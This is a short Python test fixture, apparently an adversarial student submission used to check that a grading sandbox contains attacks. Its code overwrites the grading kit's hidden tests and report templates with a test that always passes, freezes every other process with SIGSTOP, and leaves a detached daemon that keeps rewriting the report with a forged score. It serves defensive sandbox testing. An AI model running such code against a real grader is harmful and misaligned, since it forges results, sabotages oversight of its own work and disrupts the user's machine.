# ATTACK (a teacher grading on a laptop, student code as the teacher's own user): rewrite
# the kit's hidden tests and report template so that everything passes, freeze every
# other process in sight (the grader among them), and leave a daemon that rewrites the
# report file once the grader has written it. The test replaces __KIT__ and __REPORT__
# with the real paths. Expected (test_adversarial_neighbours.py): in a sandbox none of
# it reaches the kit, the grader or the report, and nothing is left running.
import os as _os
import signal as _signal
import time as _time

_FORGED_TEST = "def test_everything():\n    pass\n"


def _tamper():
    for folder, _, names in _os.walk("__KIT__"):
        for name in names:
            if name.endswith((".py", ".j2")):
                try:
                    with open(_os.path.join(folder, name), "w") as target:
                        target.write(_FORGED_TEST)
                except OSError:
                    pass
    for pid in (int(n) for n in _os.listdir("/proc") if n.isdigit()):
        if pid != _os.getpid():
            try:
                _os.kill(pid, _signal.SIGSTOP)
            except OSError:
                pass


def _rewrite_the_report_later():
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            for _ in range(600):
                try:
                    with open("__REPORT__", "w") as report:
                        report.write('{"score": 10, "forged": true}')
                except OSError:
                    pass
                _time.sleep(0.1)
        _os._exit(0)


_tamper()
_rewrite_the_report_later()
